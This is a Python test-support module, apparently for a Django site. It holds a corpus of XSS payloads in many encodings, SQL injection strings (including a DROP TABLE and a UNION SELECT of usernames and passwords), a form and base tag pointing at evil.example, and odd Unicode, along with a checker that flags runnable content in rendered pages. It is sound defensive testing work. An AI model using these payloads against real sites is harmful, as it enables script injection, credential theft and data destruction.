"""Hostile input, and a check that a page built from it is inert.

``HOSTILE`` is the corpus every form and address is tested with (see
tests/test_hostile_input.py): script tags in several encodings, event handlers,
dangerous URL schemes, SVG, CSS tricks, SQL metacharacters, NUL and control
characters, overlong text and odd Unicode. ``RAW_ENCODED`` holds byte sequences
that are not valid UTF-8, which only a hand-made request can send.

``executable_parts(html)`` lists everything in a page that a browser could run
or that would send the reader elsewhere: the hostile-input tests assert it is
empty for every page a reader gets.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import html5lib

OVERLONG_SIZE = 100 * 1024 + 1

HOSTILE: dict[str, str] = {
    # Script tags, in the encodings filters tend to miss.
    "script-tag": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt >alert(1)</sCrIpT>",
    "script-named-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "script-hex-entities": "&#x3c;script&#x3e;alert(1)&#x3C;/script&#x3E",
    "script-percent-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "script-double-percent-encoded": "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "script-fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "script-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-after-quote": '"><script>alert(1)</script>',
    "script-after-textarea": "</textarea><script>alert(1)</script>",
    "script-after-title": "</title><script>alert(1)</script>",
    "script-ends-json": "</script><script>alert(1)</script><!--",
    "script-in-comment-trick": "<!--><script>alert(1)</script>-->",
    # Event handlers.
    "img-onerror": '<img src=x onerror="alert(1)">',
    "attribute-breakout-double": '" onmouseover="alert(1)" x="',
    "attribute-breakout-single": "' onfocus='alert(1)' autofocus='",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    # Dangerous URL schemes, as HTML and as Markdown.
    "javascript-href": '<a href="javascript:alert(1)">read more</a>',
    "javascript-markdown-link": "[read more](javascript:alert(1))",
    "javascript-entity-encoded": "[read more](&#106;avascript&#58;alert(1))",
    "javascript-with-tab": '<a href="java\tscript:alert(1)">read more</a>',
    "javascript-bare": "javascript:alert(1)",
    "data-url": "[read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-url-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript-href": '<a href="vbscript:msgbox(1)">read more</a>',
    # SVG and embedded documents.
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": '<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "form-action": '<form action="https://evil.example/"><button>Log in again</button></form>',
    # CSS.
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "css-url-javascript": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-element": "<style>@import 'https://evil.example/x.css';a{background:url(javascript:1)}</style>",
    # Server-side template syntax must come out as text.
    "template-syntax": "{{ request.user.password }} {% debug %} ${7*7} <%= 7*7 %>",
    # SQL metacharacters.
    "sql-quote": "' OR '1'='1",
    "sql-drop-table": "'; DROP TABLE articles_article; --",
    "sql-union": '1" UNION SELECT username, password FROM auth_user --',
    "sql-like-wildcards": "100% _sure_ \\ [a-z]",
    "sql-comment": "x /* y */ -- z # ;",
    # Characters databases and parsers treat specially.
    "nul-byte": "before\x00after",
    "control-characters": "bell\x07 escape\x1b[31m backspace\x08 delete\x7f end",
    "line-separators": "one\u2028two\u2029three",
    "noncharacters": "\ufffe\uffff \U0010ffff \ufffd",
    # Odd Unicode.
    "rtl-override": "Totally safe \u202egpj.exe\u202c file",
    "bidi-isolates": "\u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u2066left\u2069",
    "zero-width-joiners": "mi\u200bra\u200ccle\u200d cu\ufeffre",
    "combining-marks": "Z\u0351\u0364\u0367a\u0307\u0308\u0300l\u0308\u0311g\u036ao\u0489\u0489",
    "emoji": "\U0001f912\U0001f3fd \U0001f469\u200d\u2695\ufe0f \U0001f1ec\U0001f1e7",
    "astral-letters": "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594 \U00010437",
    "surrogate-lookalikes": "\\ud83d\\ude00 \\udc80 &#xd800; %ED%A0%80",
    "mixed-scripts": "Нейромиотония 神经性肌强直 عصبي",
    # Overlong: more than 100 KB.
    "overlong": "<script>alert(1)</script>" * (OVERLONG_SIZE // 25 + 1),
}

# Percent-encoded bytes that are not valid UTF-8: a lone surrogate, an overlong
# "<", a stray continuation byte and a truncated sequence.
RAW_ENCODED: dict[str, str] = {
    "lone-surrogate": "%ED%A0%80",
    "overlong-lt": "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "stray-bytes": "%FF%FE%80",
    "truncated": "ok%E2%80",
}

# Attributes that hold a URL a browser follows or loads.
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "data",
    "ping",
}
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements no page of ours contains; any of them came from input.
_FOREIGN_ELEMENTS = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "style",
    "svg",
    "math",
}
# Every "<script" in the raw page must open one of ours: a data block or a file from /static/.
_SCRIPT_OPENING = re.compile(r"<script\b[^>]*>", re.IGNORECASE)
_OWN_SCRIPT = re.compile(
    r'<script (?=[^>]*\bsrc="/static/)[^<>]*>|<script type="application/(?:ld\+)?json"[^<>]*>'
)
# The admin also loads its translation catalogue and draws its icons with inline SVG.
_ADMIN_SCRIPT = re.compile(r'<script (?=[^>]*\bsrc="/[\w/-]*/jsi18n/")[^<>]*>')


def _compact(value: str) -> str:
    # What a browser's URL parser reads (WHATWG URL): leading and trailing spaces and
    # control characters dropped, tabs and line breaks removed from anywhere.
    value = value.strip("".join(map(chr, range(0x21))))
    return value.replace("\t", "").replace("\n", "").replace("\r", "").lower()


def _is_own_url(value: str) -> bool:
    parts = urlsplit(value.strip().replace("\\", "/"))
    return not parts.scheme and not parts.netloc


class _Inspector(HTMLParser):
    def __init__(self, foreign_elements):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.foreign_elements = foreign_elements
        self._data_block: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): value or "" for name, value in attrs}
        if tag == "script" and attributes.get("type", "").lower() in {
            "application/json",
            "application/ld+json",
        }:
            self._data_block = []
        if tag in self.foreign_elements:
            self.problems.append(f"a <{tag}> element")
        if tag == "meta" and "refresh" in attributes.get("http-equiv", "").lower():
            self.problems.append("a refreshing <meta>")
        if tag == "form" and "action" in attributes and not _is_own_url(attributes["action"]):
            self.problems.append(f"a form posting to {attributes['action']!r}")
        for name, value in attributes.items():
            if name.startswith("on"):
                self.problems.append(f"an event handler on <{tag}>: {name}={value[:80]!r}")
            elif name == "style":
                self.problems.append(f"a style attribute on <{tag}>: {value[:80]!r}")
            elif name == "srcdoc":
                self.problems.append(f"an embedded document on <{tag}>")
            elif name in _URL_ATTRIBUTES and _compact(value).startswith(_DANGEROUS_SCHEMES):
                self.problems.append(f"a dangerous URL on <{tag}>: {name}={value[:80]!r}")

    def handle_data(self, data):
        if self._data_block is not None:
            self._data_block.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._data_block is not None:
            body = "".join(self._data_block)
            self._data_block = None
            try:
                json.loads(body)
            except ValueError:
                self.problems.append(f"a JSON data block that is not JSON: {body[:80]!r}")


def executable_parts(html: str | bytes, *, admin: bool = False) -> list[str]:
    """Everything in ``html`` that could run script or take the reader off the site.

    Allowed: ``<script src>`` files from our own /static/, JSON data blocks
    (``application/json``, ``application/ld+json``) that parse as JSON, and
    links over http(s), mailto and tel. Not allowed: any other script, any
    ``on…`` attribute, a ``javascript:``, ``vbscript:`` or ``data:`` URL, a
    ``style`` attribute or element, embedded documents, SVG, ``<base>``, a
    refreshing ``<meta>``, and forms that post to another site. ``admin``
    allows what the Django admin's own pages contain.
    """
    text = html.decode("utf-8", "replace") if isinstance(html, bytes) else html
    problems = [
        f"a script: {opening[:120]!r}"
        for opening in _SCRIPT_OPENING.findall(text)
        if not (_OWN_SCRIPT.fullmatch(opening) or (admin and _ADMIN_SCRIPT.fullmatch(opening)))
    ]
    inspector = _Inspector(_FOREIGN_ELEMENTS - {"svg"} if admin else _FOREIGN_ELEMENTS)
    inspector.feed(text)
    inspector.close()
    return problems + inspector.problems


def _local_name(tag) -> str:
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def parse(html: str | bytes):
    """The page as a browser would build it (html5lib), for reading text back."""
    text = html.decode("utf-8", "replace") if isinstance(html, bytes) else html
    return html5lib.parse(text, namespaceHTMLElements=False)


def find(document, tag: str, /, **attributes):
    """The first ``tag`` element with ``attributes`` (``class_`` matches one of its classes)."""
    wanted = {key.rstrip("_"): value for key, value in attributes.items()}
    for element in document.iter():
        if _local_name(element.tag) == tag and all(
            value in (element.get(key) or "").split() if key == "class" else element.get(key) == value
            for key, value in wanted.items()
        ):
            return element
    return None


def text_content(element) -> str:
    """The text a reader sees in ``element``, with ``<br>`` as a line break."""
    parts = [element.text or ""]
    for child in element:
        parts.append("\n" if _local_name(child.tag) == "br" else text_content(child))
        parts.append(child.tail or "")
    return "".join(parts)


def as_parsed(value: str) -> str:
    """``value`` as an HTML parser hands it back: line endings unified, NUL replaced."""
    return value.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")
